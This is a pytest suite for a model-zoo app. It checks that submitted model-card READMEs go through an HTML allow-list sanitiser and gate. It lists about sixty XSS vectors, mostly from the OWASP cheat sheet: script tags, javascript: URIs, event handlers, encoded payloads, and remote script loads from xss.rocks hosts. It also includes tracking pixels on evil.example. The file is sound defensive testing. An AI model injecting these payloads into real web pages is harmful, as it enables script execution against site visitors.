"""Cards go through an allow-list: every vector below (most from the OWASP XSS Filter Evasion Cheat Sheet) is refused
at the gate with one sentence, and what the sanitiser would show of it holds nothing active. Ordinary cards, the
zoo's own among them, pass and are shown exactly as written."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pytest

from zoo.submissions import cards, gates

from conftest import HUB

LONG = "Trained with `python -m training train house-prices-book` on the Boston split; " * 4
SVG64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiPjwvc3ZnPg=="
ONERROR = '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112">'
B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
VECTORS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "<script>alert(1)</script>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    ONERROR,
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<img/src=x/onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    f'<a href="data:text/html;base64,{B64}">x</a>',
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    '<a href="https://example.com" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](vbscript:msgbox(1))",
    f"[x](data:text/html;base64,{B64})",
    "<javascript:alert(1)>",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    f'<EMBED SRC="data:image/svg+xml;base64,{SVG64}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<img src="http://evil.example/pixel.png">',
    "![tracking pixel](https://evil.example/pixel.png)",
    "<video><source onerror=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>",
    '<SPAN DATASRC="#I" DATAFLD="C" DATAFORMATAS="HTML"></SPAN>',
    '<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">',
    '<p style="color:red">a styled paragraph</p>',
]
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "data", "poster", "srcset", "xlink:href"}


def card(body: str) -> str:
    return f"---\nlicense: mit\n---\n# reader-houses\n\n{LONG}\n\n{body}\n"


class Elements(HTMLParser):
    """Every start tag and its attributes, as a browser's tokenizer would list them (entities decoded)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {k: v or "" for k, v in attrs}))

    def handle_comment(self, data):
        self.comments.append(data)


def assert_inert(html: str) -> None:
    """Nothing in the HTML can run, load or restyle anything: allowed tags only, no event or style attribute, every
    URL http(s) or mailto."""
    assert not re.search(r"<\s*(script|style|iframe|object|embed|img|svg|math|meta|link|base|form)", html, re.I), html
    assert not Elements(html).comments
    for tag, attrs in Elements(html).found:
        assert tag in cards.ALLOWED_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on") and name != "style", (name, html)
            if name in URL_ATTRIBUTES:
                assert re.match(r"(https?|mailto):", value), (name, value, html)


def test_there_are_at_least_thirty_vectors_and_each_is_different():
    assert len(VECTORS) >= 30 and len(set(VECTORS)) == len(VECTORS)


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("where", ["own line", "in a sentence"])
def test_a_card_carrying_a_vector_is_refused_with_one_sentence(vector, where, tmp_path: Path):
    path = tmp_path / "README.md"
    path.write_text(card(vector if where == "own line" else f"The model is {vector} small and fast."))
    passed, why = gates.check_card(path)
    assert not passed and why.startswith("README.md holds "), why
    assert "\n" not in why and "<" not in why and ">" not in why, why  # the app shows refusals as HTML


@pytest.mark.parametrize("vector", VECTORS)
def test_what_the_sanitiser_would_show_of_a_vector_is_inert(vector):
    for text in (card(vector), f"before {vector} after", f"- item\n- {vector}\n\n> {vector}"):
        assert_inert(cards.card_html(text))


def test_the_refusal_names_what_would_be_removed():
    said = {v: cards.refusal(v) for v in VECTORS}
    assert "onerror" in said[ONERROR]
    assert 'href="javascript:alert(1)" on the a tag' in said["[x](javascript:alert(1))"]
    assert "the script tag" in said["<script>alert(1)</script>"]
    assert "style=" in said['<p style="color:red">a styled paragraph</p>']
    assert "https://evil.example/pixel.png" in said["![tracking pixel](https://evil.example/pixel.png)"]
    assert "svg/onload" in said["<svg/onload=alert('XSS')>"]  # text that another renderer would read as a tag


ORDINARY = """# a-model

Trained on **MNIST** for *five* epochs with `Adam`; see [the paper](https://arxiv.org/abs/1412.6980 "Adam")
or <mailto:someone@example.com>, and <https://example.com/run>.<br>
Loss fell below 0.1 and a < b held; H<sub>2</sub>O, x<sup>2</sup>, ~~no~~.

<!-- a comment, as the Hub's card template has them -->

## Results

| metric | value | note |
|:--|--:|:-:|
| accuracy | 0.98 | [log](https://example.com/log) |
| loss | 0.07 | `<script>` stays text in code |

1. first
2. second

Between the lists.

3. a list that starts at three

> quoted with `code`

```python
model = zoo.load("a-model")  # <b>not a tag</b>

print(model)
```

    indented code with <tags>

---
Plain <strong>strong</strong>, <em>em</em> and <kbd>Ctrl</kbd> tags are fine, and
<p>a raw paragraph</p> too.
"""


def shown(html: str) -> list[tuple]:
    """Tags, attributes (a link's rel aside: the sanitiser adds it) and the text between them."""

    class Tokens(HTMLParser):
        def __init__(self):
            super().__init__(convert_charrefs=True)
            self.out: list[tuple] = []

        def handle_starttag(self, tag, attrs):
            self.out.append((tag, sorted((k, v) for k, v in attrs if k != "rel")))

        def handle_startendtag(self, tag, attrs):  # <br /> and <br> are the same element
            self.handle_starttag(tag, attrs)

        def handle_endtag(self, tag):
            self.out.append(("/" + tag,))

        def handle_data(self, data):
            self.out.append(("text", data))

    parser = Tokens()
    parser.feed(html)
    parser.close()
    merged: list[tuple] = []
    for t in parser.out:
        if t[0] == "text" and merged and merged[-1][0] == "text":
            t = ("text", merged.pop()[1] + t[1])
        merged.append(t)
    return merged


@pytest.mark.parametrize("text", [ORDINARY, *(p.read_text() for p in sorted(HUB.glob("*/README.md")))])
def test_an_ordinary_card_passes_and_is_shown_as_written(text, tmp_path: Path):
    path = tmp_path / "README.md"
    path.write_text(text if text.startswith("---") else card(text))
    assert gates.check_card(path) == gates.PASSED
    rendered = cards.render(cards.body(path.read_text()))
    assert shown(cards.sanitise(rendered)) == shown(rendered)


def test_the_ordinary_card_keeps_its_tables_links_and_code():
    html = cards.card_html(card(ORDINARY))
    assert '<td align="right">0.07</td>' in html and '<th align="center">note</th>' in html
    assert 'href="https://arxiv.org/abs/1412.6980" title="Adam" rel="noopener noreferrer nofollow"' in html
    assert 'href="mailto:someone@example.com"' in html and '<ol start="3">' in html
    assert '<code class="language-python">' in html and "&lt;b&gt;not a tag&lt;/b&gt;" in html
    assert_inert(html)


def test_links_are_http_https_or_mailto_only():
    assert cards.refusal("[docs](docs/usage.md)")  # relative: points at nothing in the app
    assert cards.refusal("[x](//evil.example/)")
    assert cards.refusal("[x](ftp://example.com/f)")
    assert cards.refusal("[x](https://example.com/f) and [y](mailto:a@b.c)") is None


def test_text_that_looks_like_a_tag_is_refused_outside_code_only():
    assert "backticks" in cards.refusal("write <img/src=x/onerror=alert(1)> here")
    assert cards.refusal("write `<img/src=x/onerror=alert(1)>` here") is None
    assert cards.refusal("loss < 0.1, a<3, 2 <= n") is None


def test_a_card_too_long_to_render_cheaply_is_refused_before_rendering():
    why = cards.refusal("[" * (cards.MAX_CARD_CHARS + 1))
    assert why == f"README.md's text is {cards.MAX_CARD_CHARS + 1:,} characters; a card holds at most 100,000"


def test_the_app_shows_a_submitted_card_through_the_allow_list(tmp_path: Path, monkeypatch):
    """A card admitted before this gate (the old pattern list let <img/src=x/onerror=...> in) is shown inert,
    and the HTML reaches gr.Markdown as one raw block: no blank line, code's newlines kept as entities."""
    from demos.tabs import leaderboard

    (tmp_path / "README.md").write_text(
        card("<img/src=x/onerror=alert(1)> <b onmouseover=alert(1)>hi</b>\n\n" + ORDINARY)
    )
    monkeypatch.setattr(leaderboard, "submitted_folder", lambda name: tmp_path)
    row = SimpleNamespace(origin="submitted", source="upload", source_url="javascript:alert(1)")
    html = leaderboard.model_card(SimpleNamespace(row=lambda name: row), "reader-houses")
    assert html.startswith("<div>\n<p><em>Submitted (upload); evaluated by this project's code.</em></p>")
    assert "\n\n" not in html and 'zoo.load("a-model")  # &lt;b&gt;not a tag&lt;/b&gt;&#10;&#10;print' in html
    assert "javascript" not in html.split("</p>")[0]
    assert_inert(html.removeprefix("<div>").removesuffix("</div>"))
